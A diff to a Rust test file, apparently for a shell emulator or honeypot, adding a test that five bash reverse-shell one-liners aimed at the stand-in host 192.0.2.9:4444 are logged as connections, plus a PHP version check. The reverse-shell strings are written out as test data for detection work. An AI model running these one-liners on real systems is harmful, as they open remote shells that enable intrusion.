@@ -315,6 +315,36 @@ fn a_reverse_shell_of_python_is_told_of() {
 }
 
 #[test]
+fn a_reverse_shell_of_bash_is_told_of() {
+    for line in [
+        "bash -i >& /dev/tcp/192.0.2.9/4444 0>&1",
+        "bash -c 'exec 5<>/dev/tcp/192.0.2.9/4444; cat <&5 | sh >&5 2>&1'",
+        "sh -c \"bash -c '0<&196;exec 196<>/dev/tcp/192.0.2.9/4444; sh <&196 >&196'\"",
+        "nohup bash -c 'sh -i 5<> /dev/tcp/192.0.2.9/4444 0<&5 1>&5 2>&5' &",
+        "awk 'BEGIN { system(\"bash -c \\\"bash -i >& /dev/tcp/192.0.2.9/4444 0>&1\\\"\") }'",
+    ] {
+        let (output, effects) = effects(line, &[]);
+        assert!(
+            effects.contains(&"connect bash 192.0.2.9:4444".to_owned()),
+            "{line}: {output} {effects:?}"
+        );
+    }
+    let host = host("router-mips");
+    let mut driver = Driver::new(&host, &Fs::new(&host), "root", true);
+    driver.run(b"sh -i >& /dev/tcp/192.0.2.9/4444 0>&1\n");
+    assert!(!driver.effects.iter().any(|e| e.starts_with("connect")), "{:?}", driver.effects);
+}
+
+#[test]
+fn php_is_of_the_version_that_its_package_says() {
+    let (output, _) = effects("dpkg-query -W -f '${Version}' php8.2-cli; echo; php -v", &[]);
+    let mut lines = output.lines().filter(|line| !line.is_empty());
+    let package = lines.next().and_then(|line| line.split('-').next()).expect("a version");
+    let shown = lines.next().expect("what php says");
+    assert!(shown.starts_with(&format!("PHP {package} (cli)")), "{output}");
+}
+
+#[test]
 fn a_shell_that_python_spawns_is_the_terminals() {
     let host = host("server-debian");
     let mut driver = Driver::new(&host, &Fs::new(&host), "root", true);
